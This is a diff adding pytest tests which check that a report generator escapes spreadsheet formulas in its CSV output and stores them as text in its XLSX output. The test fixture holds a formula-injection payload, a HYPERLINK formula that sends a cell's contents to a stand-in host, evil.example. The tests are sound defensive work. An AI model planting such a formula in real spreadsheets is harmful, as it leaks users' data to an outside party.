@@ -482,3 +482,34 @@ def pdf_text_page(path: Path, page: int) -> str:
 def in_order(words: list[str], text: list[str]) -> bool:
     rest = iter(text)
     return all(word in rest for word in words)
+
+
+# --- issue 13: formula-leading text stays inert text ---------------------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+
+@pytest.fixture
+def hostile_report(tmp_path):
+    conn = make_example(tmp_path / "db.sqlite3")
+    conn.execute("UPDATE proposals SET text = ?, answer_text = ? WHERE id = 1",
+                 (HYPERLINK, "@SUM(A1:A9)"))
+    data = report_data(conn, DOCUMENT, GENERATED)
+    conn.close()
+    render_report(data, tmp_path / "out", formats=("report.csv", "report.xlsx"), parallel=False)
+    return tmp_path / "out"
+
+
+def test_report_csv_escapes_formulas(hostile_report):
+    raw = (hostile_report / "ru" / "report.csv").read_bytes()
+    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
+    [row] = [r for r in rows if r and r[0] == "1"]
+    assert row[3] == "'" + HYPERLINK
+    assert row[4].startswith("Принято")             # "Принято (…): @SUM…" is not formula-leading
+
+
+def test_report_xlsx_keeps_formulas_as_text(hostile_report):
+    wb = load_workbook(hostile_report / "kk" / "report.xlsx")
+    cells = [c for row in wb.active.iter_rows() for c in row if c.value == HYPERLINK]
+    assert cells and all(c.data_type == "s" for c in cells)
+    wb.close()
